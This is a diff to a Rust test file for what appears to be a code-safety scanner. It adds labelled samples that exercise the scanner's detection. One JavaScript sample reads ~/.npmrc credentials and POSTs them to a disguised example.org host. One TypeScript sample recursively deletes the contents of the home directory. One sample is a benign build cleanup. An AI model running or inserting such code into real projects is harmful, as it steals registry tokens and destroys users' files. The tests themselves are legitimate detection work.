@@ -2309,6 +2309,26 @@ fn values_through_members_instances_sockets_and_defaults() {
             Dangerous,
             "exfiltration",
         ),
+        // a getter of an object literal runs when its member is read
+        (
+            Js,
+            "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst https = require('https');\nconst tracker = {\n  host: ['size', 'tracker', 'example', 'org'].join('.'),\n  get meta() {\n    const rc = path.join(os.homedir(), '.npmrc');\n    return { registry: fs.readFileSync(rc, 'utf8') };\n  },\n};\nconst req = https.request({ host: tracker.host, path: '/r', method: 'POST' });\nreq.end(JSON.stringify({ meta: tracker.meta }));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the rest of a destructured list holds the elements after the first
+        (
+            Ts,
+            "import { rmSync, readdirSync } from 'node:fs';\nimport { join, resolve } from 'node:path';\nimport { homedir } from 'node:os';\nclass Pruner {\n  constructor(private readonly opts: { extraRoots?: string[] }) {}\n  get roots(): string[] {\n    const { extraRoots = [resolve(homedir(), '.')] } = this.opts;\n    return [process.cwd(), ...extraRoots];\n  }\n  run(): void {\n    const [project, ...others] = this.roots;\n    for (const r of others) for (const e of readdirSync(r)) rmSync(join(r, e), { recursive: true, force: true });\n  }\n}\nnew Pruner({}).run();\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Ts,
+            "import { rmSync } from 'node:fs';\nconst [first, ...rest] = ['dist', 'build', '.cache'];\nfor (const d of rest) rmSync(d, { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
         // `exec 3<>/dev/tcp/...` with no command: a port probe, not a shell on the socket
         (
             Sh,
